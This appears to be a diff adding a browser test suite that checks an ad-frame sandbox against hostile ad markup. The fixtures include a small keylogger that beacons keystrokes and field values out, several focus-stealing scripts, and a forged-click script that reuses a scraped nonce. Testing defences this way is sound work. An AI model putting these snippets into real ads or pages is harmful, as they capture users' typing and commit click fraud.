@@ -1,0 +1,146 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
+import type { Browser, Page } from 'puppeteer-core';
+import type { FramePageData } from '../../../adapters/wire/frame-page.js';
+import { BROWSERS, launchNamed, typeSlowly } from '../../support/two-browsers.js';
+import { chatData, MARKUP, overlayData } from './support/fixtures.js';
+import { startFrameSite, type FrameSite } from './support/frame-site.js';
+import { startHostSite, type Heard, type HostSite } from './support/host-page.js';
+
+/** Tells what it hears of the keyboard, in the document that it stands in. */
+const LISTENS = `addEventListener('keydown',e=>{new Image().src='/c/leak?'+e.key},true);
+  addEventListener('input',e=>{new Image().src='/c/text?'+e.target.value},true);`;
+const LATER = 600;
+const script = (body: string): string => `<input id="i"><script>${LISTENS}${body}</script>`;
+/** Says that it was clicked, all the time: the word that its messages need stands in its own document. */
+const CLICKS = script(
+  `addEventListener('mousemove',()=>{new Image().src='/c/over'},{once:true});` +
+    `const nonce=/"([^"]+)"/.exec(document.scripts[0].text)[1];setInterval(()=>parent.postMessage({nonce,type:'click'},'*'),5)`,
+);
+const loop = (body: string): string => script(`setTimeout(()=>setInterval(()=>{${body}},3),${LATER})`);
+const nested = (body: string): string =>
+  script(
+    `const f=document.createElement('iframe');f.srcdoc=${JSON.stringify(script(body)).replace(
+      /<\//g,
+      '<\\/',
+    )};document.body.append(f)`,
+  );
+
+/** Each takes the focus again and again; some without a document that our own script could look after. */
+const THIEVES: Readonly<Record<string, string>> = {
+  'the window': loop('focus()'),
+  'a field': loop('i.focus()'),
+  'a frame of its own': nested(`setTimeout(()=>setInterval(()=>{i.focus()},3),${LATER})`),
+  'a document that was opened anew': script(
+    `setTimeout(()=>{document.open();document.write(${JSON.stringify(loop('i.focus()')).replace(
+      /<\//g,
+      '<\\/',
+    )});document.close()},50)`,
+  ),
+};
+
+const PAGES: Readonly<Record<string, () => FramePageData>> = {
+  inline: () => chatData('banner', { media: MARKUP, isFinal: true }),
+  overlay: () => overlayData({ media: { ...MARKUP, markup: { ...MARKUP.markup, width: 200, height: 60 } } }),
+  modal: () => chatData('interstitial', { isFinal: true }),
+};
+
+let site: FrameSite;
+let host: HostSite;
+beforeAll(async () => void ([site, host] = await Promise.all([startFrameSite(chatData('image')), startHostSite()])));
+afterAll(() => Promise.all([site.close(), host.close()]));
+
+describe.each(BROWSERS)('in %s', (name) => {
+  let browser: Browser;
+  let page: Page;
+  beforeAll(async () => void (browser = await launchNamed(name)));
+  afterAll(() => browser.close());
+  afterEach(async () => {
+    await page.close();
+    site.visits.length = 0;
+  });
+
+  const heard = (): Promise<readonly Heard[]> => page.evaluate(() => (window as unknown as { heard: Heard[] }).heard);
+  const leaked = (): readonly string[] => site.visits.filter((path) => path.startsWith('/c/leak?'));
+  const until = async (look: () => boolean | Promise<boolean>): Promise<void> => {
+    const deadline = performance.now() + 15_000;
+    while (!(await look()) && performance.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 30));
+    expect(await look()).toBe(true);
+  };
+  const visited = (path: string) => (): boolean => site.visits.some((visit) => visit.startsWith(path));
+
+  /** A host that knows nothing of focus, with somebody typing in it. */
+  const show = async (kind: keyof typeof PAGES, markup: string): Promise<void> => {
+    const data = PAGES[kind]?.() as FramePageData;
+    site.markup = markup;
+    site.page = data;
+    site.modal =
+      kind === 'modal' ? chatData('interstitial', { kind: 'modal', isFinal: true, media: MARKUP }) : undefined;
+    const path = kind === 'overlay' ? '/overlay/slot-1' : '/api/frame/x';
+    const frameUrl =
+      site.origin + (kind === 'overlay' ? path : new URL(`/api/frame/${data.bidId}`, site.origin).pathname);
+    page = await browser.newPage();
+    const height = kind === 'overlay' ? 100 : undefined;
+    await page.goto(host.plan({ frameUrl, modalUrl: `${site.origin}/api/modal/${data.bidId}`, height }));
+    await page.evaluate(() => {
+      const chat = document.createElement('input');
+      chat.id = 'chat';
+      document.body.prepend(chat);
+      chat.focus();
+    });
+    await until(visited('/api/markup/'));
+  };
+  /** Types until the markup had its time, and has been dealt with. */
+  const typeOn = async (isOver: () => boolean | Promise<boolean>): Promise<void> => {
+    const deadline = performance.now() + 15_000;
+    while (!(await isOver()) && performance.now() < deadline) await typeSlowly(page, 'secret ');
+    await typeSlowly(page, 'afterwards');
+  };
+
+  test.each(Object.keys(THIEVES))('a bare host: %s takes the focus for ever, and is destroyed', async (thief) => {
+    await show('inline', THIEVES[thief] ?? '');
+    await typeOn(visited('/error'));
+    expect(leaked().length).toBeLessThanOrEqual(2);
+    const failure = (await heard()).filter(({ type }) => type === 'error-iframe');
+    expect(failure.map(({ data }) => data.errCode)).toEqual(['focus_taken']);
+    expect((await heard()).map(({ type }) => type)).not.toContain('click-iframe');
+  });
+
+  test.each(['overlay', 'modal'])('a bare host, %s: the same', async (kind) => {
+    await show(kind, THIEVES['a frame of its own'] ?? '');
+    await typeOn(visited('/error'));
+    expect(leaked().length).toBeLessThanOrEqual(2);
+    const said = (await heard()).map(({ type }) => type);
+    expect(said.includes('error-component-iframe')).toBe(kind === 'modal');
+    expect(said.filter((type) => /click/.test(type))).toEqual([]);
+  });
+
+  const clicks = async (): Promise<number> => (await heard()).filter(({ type }) => /click/.test(type)).length;
+  /** Moves the pointer until it is over the markup. Nothing may be evaluated in its frames: drivers count that as a gesture. */
+  const pointAt = async (): Promise<void> => {
+    const box = await (await page.$('#slot'))?.boundingBox();
+    if (!box) throw new Error('There is no ad.');
+    for (let y = box.y + box.height - 10; !visited('/c/over')() && y > box.y; y -= 20) {
+      await page.mouse.move(box.x + box.width / 2, y);
+      await new Promise((resolve) => setTimeout(resolve, 150));
+    }
+    expect(visited('/c/over')()).toBe(true);
+  };
+
+  test.each(['inline', 'overlay'])(
+    '%s: a script that says "click" all the time has one for each press',
+    async (kind) => {
+      await show(kind, CLICKS);
+      await typeSlowly(page, 'no press yet');
+      await pointAt();
+      expect(await clicks()).toBe(0);
+      await page.mouse.down();
+      await page.mouse.up();
+      await until(async () => (await clicks()) === 1);
+      await typeSlowly(page, 'keys');
+      await page.mouse.down();
+      await page.mouse.up();
+      await typeSlowly(page, 'more keys');
+      expect(await clicks()).toBe(1);
+    },
+  );
+});
